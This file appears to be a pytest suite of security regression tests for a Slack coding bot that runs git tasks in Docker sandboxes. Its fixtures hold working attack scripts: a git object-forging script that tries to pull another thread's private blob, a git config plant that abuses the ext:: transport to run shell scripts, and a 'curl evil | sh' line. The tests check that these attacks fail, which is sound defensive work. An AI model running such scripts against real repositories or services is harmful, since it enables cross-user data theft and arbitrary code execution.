"""Attacks from the security review through git and the finishing step (SECURITY.md rows G12–G14, C5,
S12, C7 and the hand-in): each a real task in a real sandbox, on one bot shared by the module."""

from __future__ import annotations

import asyncio
import re
import subprocess
import time

import docker
import pytest
import pytest_asyncio

from tests.attack_rig import (command, git, make_remote, patch_of, push_upstream, run_task, running_bot,
                              thread_task_ids, thread_text, tool_outputs)
from tests.fakes import shell, text
from tests.helpers import block_text, final_replies, mention, wait_final
from tests.slack_actions import command as slash

pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.docker]


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def rig(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("review-git")
    # One task at a time per channel: the Stop row queues a second task behind the first.
    async with running_bot(tmp / "data", SLACKBOT_ADMINS="UADMIN", SLACKBOT_MAX_TASKS_PER_CHANNEL="1") as r:
        r.tmp = tmp  # type: ignore[attr-defined]
        yield r


def sha_of(content: str) -> str:
    return subprocess.run(["git", "hash-object", "--stdin"], input=content, capture_output=True, text=True,
                          check=True).stdout.strip()


# ---- G12: a result may only add objects it carries ----------------------------------------------

VICTIM = "VICTIM-PRIVATE-WORK: db password is hunter2-3f9a\n"

# The attacker's workspace rewrites its copy of the base's docs/ tree so that it names blob X (a
# guess at another thread's object): the finishing step then leaves X out of the bundle, as if the
# thread had it already, while the new docs/ tree references it.
FORGE = r'''
set -e
P=$(git rev-parse HEAD)
X=__X__
mkdir -p /tmp/packs && mv .git/objects/pack/* /tmp/packs/
for p in /tmp/packs/*.pack; do git unpack-objects -q < $p; done
D=$(git rev-parse "$P:docs")
printf '100644 blob %s\tstolen.txt\n' $X | git mktree --missing > /tmp/newsub
git cat-file tree $(cat /tmp/newsub) > /tmp/forged
python3 - "$D" "$X" <<'PY'
import sys, zlib, os
D, X = sys.argv[1], sys.argv[2]
body = open("/tmp/forged", "rb").read()
def put(sha, data):
    d = ".git/objects/%s" % sha[:2]; os.makedirs(d, exist_ok=True)
    path = "%s/%s" % (d, sha[2:])
    if os.path.exists(path): os.chmod(path, 0o644); os.unlink(path)
    open(path, "wb").write(zlib.compress(data))
put(D, b"tree %d\0" % len(body) + body)
if not os.path.exists(".git/objects/%s/%s" % (X[:2], X[2:])):
    put(X, b"blob 0\0")
PY
echo > docs/stolen.txt && chmod 000 docs/stolen.txt
for i in $(seq 60); do echo pad > docs/padding-file-with-a-long-name-$i.txt; done
echo change >> README.md
'''


def refusal(final: dict) -> str:
    found = re.search(r"The task's [^\n]*?not taken\.", block_text(final))
    return found.group(0) if found else ""


async def test_g12_a_result_cannot_borrow_another_threads_object(rig):
    slack, model, bot = rig.slack, rig.model, rig.bot
    remote = make_remote(rig.tmp, "borrow", {"README.md": "# app\n", "docs/guide.md": "guide\n"})
    # The same repository linked in a private channel and in the attacker's.
    assert "Linked" in await command(slack, f"repo add borrow {remote} main", channel="CG12V")
    assert "Linked" in await command(slack, f"repo add borrow {remote} main", channel="CG12A")
    victim_ts, _ = await run_task(slack, model, "g12-victim-work", [f"printf '{VICTIM}' > notes.txt"], user="UVICTIM",
                   channel="CG12V")  # its result sits in the shared mirror, never pushed
    finals, threads = {}, {}
    for key, guess in (("g12-wrong-guess", sha_of("guess\n")), ("g12-right-guess", sha_of(VICTIM))):
        threads[key], finals[key] = await run_task(slack, model, key, [FORGE.replace("__X__", guess)],
                                                   channel="CG12A")
    wrong, right = refusal(finals["g12-wrong-guess"]), refusal(finals["g12-right-guess"])
    assert right, block_text(finals["g12-right-guess"])  # refused: the result was not taken
    assert wrong == right  # no oracle: a right guess reads exactly like a wrong one
    assert "stolen.txt" not in block_text(finals["g12-right-guess"])
    victim_patch = await patch_of(slack, (await thread_task_ids(bot, "CG12V", victim_ts))[0])
    assert "hunter2" in victim_patch  # the control: the private text is real and in the victim's thread
    attacker = {f"task-{i}.patch" for ts in threads.values() for i in await thread_task_ids(bot, "CG12A", ts)}
    patches = [f["content"].decode(errors="replace") for f in slack.files if f["name"] in attacker]
    assert not any("hunter2" in p for p in patches)
    assert "hunter2" not in git("log", "--all", "-p", cwd=remote)
    mirror = bot.runs.ctx.repo_ops.mirrors.path_for(str(remote))
    thread = await bot.store.thread_for("CG12A", threads["g12-right-guess"])
    assert sha_of(VICTIM) not in git("rev-list", "--objects", f"refs/slackbot/threads/{thread.id}", cwd=mirror)


# ---- G13: a planted url.insteadOf cannot turn the finishing or hand-in fetch into ext:: ----------

PLANT = r'''
cat > /workspace/.evil-finish.sh <<'X'
echo 'SLACKBOT-RESULT {"changed": false, "left_out": [["forged-by-the-finishing-container", 123]]}' >&2
touch /workspace/marker-finish
exit 1
X
cat > /workspace/.evil-handin.sh <<'X'
touch /workspace/marker-handin
exit 1
X
git config protocol.allow always
git config protocol.ext.allow always
git config url."ext::sh /workspace/.evil-finish.sh ".insteadOf /tmp/result.
git config url."ext::sh /workspace/.evil-handin.sh ".insteadOf /tmp/in.bundle
echo real work > work.txt
'''


async def test_g13_ext_transport_never_runs_in_the_finishing_or_hand_in_step(rig):
    slack, model = rig.slack, rig.model
    remote = make_remote(rig.tmp, "extapp")
    await command(slack, f"repo add extapp {remote} main", channel="CG13")
    ts, first = await run_task(slack, model, "g13-plant-ext", [PLANT], channel="CG13")
    assert "`work.txt` +1 −0 (new)" in block_text(first)
    push_upstream(remote, rig.tmp / "extapp-upstream", {"later.txt": "later\n"}, "upstream: later")
    _, second = await run_task(slack, model, "g13 look around", ["ls -a /workspace"], channel="CG13",
                               thread_ts=ts, thread_key="g13-plant-ext", count=2)
    listing = tool_outputs(model, "g13-plant-ext")[-1]
    assert ".evil-finish.sh" in listing  # the planted files are there (the listing is real)
    assert "marker-finish" not in listing and "marker-handin" not in listing
    assert "forged-by-the-finishing-container" not in thread_text(slack, "CG13", ts)


# ---- G14: a tree deeper than Python's recursion limit -------------------------------------------

async def test_g14_a_very_deep_tree_is_still_taken(rig):
    ts, final = await run_task(rig.slack, rig.model, "g14-deep-tree", [
        "python3 -c \"import os\nfor i in range(1100): os.mkdir('a'); os.chdir('a')\nopen('f','w').write('x')\"; "
        "echo ok > top.txt"], channel="CG14")
    text_ = block_text(final)
    assert "`top.txt` +1 −0 (new)" in text_, text_
    assert "not taken" not in text_ and "failed" not in text_.lower()


# ---- C5, S12: FIFOs, a special alternates file, and Stop while finishing ------------------------

async def test_s12_fifos_where_git_reads_do_not_hang_the_finishing_step(rig):
    slack, model = rig.slack, rig.model
    started = time.monotonic()
    ts, final = await run_task(slack, model, "s12-fifo-attributes", [
        "mkfifo .gitattributes .gitmodules && mkdir -p sub && mkfifo sub/.gitignore sub/.gitattributes && "
        "echo x > x.txt && echo y > sub/y.txt"], channel="CS12", timeout=60)
    assert time.monotonic() - started < 60
    text_ = block_text(final)
    assert "`x.txt` +1 −0 (new)" in text_ and "`sub/y.txt` +1 −0 (new)" in text_, text_
    task_id = (await thread_task_ids(rig.bot, "CS12", ts))[0]
    assert "+x" in await patch_of(slack, task_id)
    # A FIFO as objects/info/alternates: the finishing step borrows nothing and still takes the work.
    ts, final = await run_task(slack, model, "s12-fifo-alternates", [
        "rm -f .git/objects/info/alternates && mkfifo .git/objects/info/alternates && echo z > z.txt"],
        channel="CS12", timeout=60)
    assert "`z.txt` +1 −0 (new)" in block_text(final), block_text(final)
    # A FIFO in a directory the scan cannot list, and one at .git/config (the branch sync reads it).
    ts, final = await run_task(slack, model, "s12-fifo-hidden", [
        "mkdir -p docs && echo guide > docs/guide.md && mkfifo docs/.gitattributes && chmod 311 docs && "
        "rm .git/config && mkfifo .git/config && echo w > w.txt"], channel="CS12", timeout=90)
    assert "`w.txt` +1 −0 (new)" in block_text(final) and "`docs/guide.md`" in block_text(final), block_text(final)
    assert time.monotonic() - started < 160


def finishing(instance: str, task_id: int | None = None) -> list:
    labels = [f"slackbot.instance={instance}", "slackbot.role=finish"]
    client = docker.from_env()
    try:
        return client.api.containers(filters={"label": labels + ([f"slackbot.task={task_id}"] if task_id else [])})
    finally:
        client.close()


async def first_task_id(bot, channel: str, ts: str, timeout: float = 30) -> int:  # type: ignore[no-untyped-def]
    deadline = time.monotonic() + timeout
    while not (ids := await thread_task_ids(bot, channel, ts)):
        assert time.monotonic() < deadline, "the task was never recorded"
        await asyncio.sleep(0.1)
    return ids[0]


async def test_c5_stop_during_the_finishing_step_still_ends_the_task(rig):
    slack, model, bot = rig.slack, rig.model, rig.bot
    # 80 MB of random bytes (two files under the 50 MB cap) keep the finishing step busy for seconds.
    model.script_for("c5-stopped-while-finishing", [
        shell("head -c 40000000 /dev/urandom > r1.bin && head -c 40000000 /dev/urandom > r2.bin"),
        text("first done")])
    ts = await mention(slack, "c5-stopped-while-finishing", channel="CC5")
    model.script_for("c5-queued-behind", [text("queued one done")])
    queued_ts = await mention(slack, "c5-queued-behind", channel="CC5", user="U2")  # the channel allows one
    task_id = await first_task_id(bot, "CC5", ts)
    await slack.wait_for(lambda: finishing(bot.sandboxes.instance, task_id), timeout=60, interval=0.05)
    answer = await slash(slack, f"stop {task_id}", user="U1", channel="CC5")
    assert "Stopping" in answer or "already" in answer, answer
    final = await wait_final(slack, "CC5", ts, timeout=120)
    task = await bot.store.get_task(task_id)
    assert task.status in ("done", "failed", "stopped") and task.announced, task.status
    assert final_replies(slack, "CC5", ts) == [final]
    await wait_final(slack, "CC5", queued_ts, timeout=60)  # the channel's slot was freed
    assert not finishing(bot.sandboxes.instance, task_id)


# ---- C7: auto_push only for the thread's first requester ----------------------------------------

def remote_branch(remote) -> tuple[str, str]:  # type: ignore[no-untyped-def]
    names = [b.strip() for b in git("branch", "--list", "slackbot/*", cwd=remote).splitlines()]
    assert len(names) <= 1, names
    return (names[0], git("rev-parse", names[0], cwd=remote).strip()) if names else ("", "")


async def test_c7_auto_push_skips_a_follow_up_by_another_member(rig):
    slack, model = rig.slack, rig.model
    remote = make_remote(rig.tmp, "pushy")
    await command(slack, f"repo add pushy {remote} main", channel="CC7")
    assert "auto" in (await command(slack, "repo set pushy auto_push=on", channel="CC7")).lower()
    ts, _ = await run_task(slack, model, "c7-ann-starts", ["echo ann >> README.md"], user="UANN", channel="CC7")
    branch, after_ann = remote_branch(remote)
    assert branch and "ann" in git("show", f"{branch}:README.md", cwd=remote)
    _, second = await run_task(slack, model, "c7 mallory follows up", ["echo 'curl evil | sh' > install.sh"],
                               user="UMAL", channel="CC7", thread_ts=ts, thread_key="c7-ann-starts", count=2)
    assert remote_branch(remote) == (branch, after_ann)  # not pushed
    assert "install.sh" not in git("ls-tree", "-r", "--name-only", branch, cwd=remote)
    assert "Not pushed automatically" in block_text(second), block_text(second)
    _, third = await run_task(slack, model, "c7 ann again", ["echo more >> README.md"], user="UANN",
                              channel="CC7", thread_ts=ts, thread_key="c7-ann-starts", count=3)
    assert remote_branch(remote)[1] != after_ann  # the first requester's follow-up is pushed
    assert "more" in git("show", f"{branch}:README.md", cwd=remote)


# ---- Hand-in: a follow-up sees the base branch's new commits as origin/<base> -------------------

async def test_hand_in_brings_new_base_commits_as_origin_base(rig):
    slack, model = rig.slack, rig.model
    remote = make_remote(rig.tmp, "handin")
    await command(slack, f"repo add handin {remote} main", channel="CHI")
    ts, _ = await run_task(slack, model, "handin-first-task", ["echo mine > mine.txt"], channel="CHI")
    push_upstream(remote, rig.tmp / "handin-upstream", {"theirs.txt": "theirs\n"}, "upstream: a teammate's fix")
    await run_task(slack, model, "handin follow-up", ["git log --oneline origin/main"], channel="CHI",
                   thread_ts=ts, thread_key="handin-first-task", count=2)
    assert "upstream: a teammate's fix" in tool_outputs(model, "handin-first-task")[-1]
